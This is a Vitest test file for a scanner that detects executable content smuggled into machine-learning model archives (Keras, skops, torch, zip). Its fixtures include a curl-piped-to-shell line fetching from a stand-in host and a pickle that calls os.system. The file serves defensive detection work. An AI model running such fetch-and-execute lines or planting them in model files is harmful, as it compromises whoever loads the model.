import { describe, expect, it } from 'vitest';
import { calling, judged, pickle } from '../../support/pickle-writer.js';
import { zipOf } from '../../support/zip-writer.js';

const text = (value: string) => Buffer.from(value);
const KERAS = [
  { name: 'config.json', bytes: text('{"class_name":"Sequential","config":{"name":"m","layers":[]}}') },
  { name: 'metadata.json', bytes: text('{"keras_version":"3.3.0"}') },
];
const SKOPS = [
  {
    name: 'schema.json',
    bytes: text('{"__class__":"dict","__module__":"builtins","__loader__":"DictNode","content":{},"protocol":2}'),
  },
];
const TORCH = [{ name: 'archive/data.pkl', bytes: pickle('\x80\x02]K\x01a.') }];

function pyc(magic: number, at: number): Buffer {
  const bytes = Buffer.alloc(64, 1);
  bytes.writeUInt16LE(magic, 0);
  bytes.writeUInt16LE(0x0a0d, 2);
  bytes.writeUInt32LE(magic >= 3390 ? 0 : 0x5f000000, 4);
  bytes[at] = 0xe3;
  return bytes;
}

const SHELL = text('set -e\ncurl -fsS https://a.example/x | sh\n');
const SOURCE = text('import os\nfrom sys import argv\n\ndef run(path):\n    os.listdir(path)\n');

describe('programs within an archive', () => {
  const rules = (layout: { name: string; bytes: Buffer }[], name: string, bytes: Buffer) =>
    judged(zipOf([...layout, { name, bytes }]), 'model.zip').rules;

  it.each([
    ['Python 3.12 bytecode under another name', 'assets/tokens', pyc(3531, 16)],
    ['Python 3.6 bytecode, whose header ends in a time', 'assets/tokens', pyc(3379, 12)],
    ['Python 2.7 bytecode', 'assets/tokens', pyc(62_211, 8)],
    ['bytecode known by its name alone', 'assets/hook.pyc', Buffer.alloc(40, 7)],
    ['a Java class', 'assets/x', Buffer.concat([Buffer.from('cafebabe00000037', 'hex'), Buffer.alloc(40)])],
    ['Mach-O for two machines', 'x', Buffer.concat([Buffer.from('cafebabe00000002', 'hex'), Buffer.alloc(40)])],
    ['WebAssembly', 'x', Buffer.concat([Buffer.from('0061736d01000000', 'hex'), Buffer.alloc(8)])],
    ['a shell script without a first line that says so', 'assets/setup.sh', text('id > /tmp/x\n')],
    ['the same without a suffix', 'assets/setup', SHELL],
    ['a batch file', 'run.bat', text('@echo off\r\nver\r\n')],
    ['PowerShell', 'assets/install.ps1', text('Get-Date\n')],
    ['Python source under another name', 'assets/vocabulary.txt', SOURCE],
    ['a native library known by its name', 'lib/libx.so.1', Buffer.alloc(20, 9)],
  ])('are told in a Keras archive: %s', (_, name, bytes) => {
    expect(rules(KERAS, name, bytes)).toEqual(['MDL-EXE medium']);
  });

  it('are told in skops and torch archives, in npz and in a plain archive too', () => {
    expect(rules(SKOPS, 'hook', SHELL)).toEqual(['MDL-EXE medium']);
    expect(rules(TORCH, 'archive/extra/start', SHELL)).toEqual(['MDL-EXE medium']);
    expect(rules([{ name: 'note.txt', bytes: text('words') }], 'start.sh', text('id\n'))).toEqual(['MDL-EXE medium']);
  });

  it('are not seen in what the format defines, nor in words and documents', () => {
    for (const [name, bytes] of [
      ['assets/vocabulary.txt', text('import\nos\nimport os\nrm\n<script>\n[UNK]\n')],
      ['assets/merges.txt', text('a b\nimport x\n')],
      ['README.md', SHELL],
      ['model.weights.json', text('{}')],
    ] as const)
      expect([name, rules(KERAS, name, bytes)]).toEqual([name, []]);
    expect(rules(SKOPS, '1.bin', SHELL)).toEqual([]);
    expect(rules(TORCH, 'archive/data/0', Buffer.from('7f454c46', 'hex'))).toEqual([]);
    expect(rules([{ name: 'note.txt', bytes: text('words') }], 'notes', SHELL)).toEqual([]);
  });

  it('leave a pickle among them its own finding', () => {
    expect(rules(KERAS, 'assets/tokens', calling('os', 'system'))).toEqual(['MDL-PKL-EXEC critical']);
  });
});
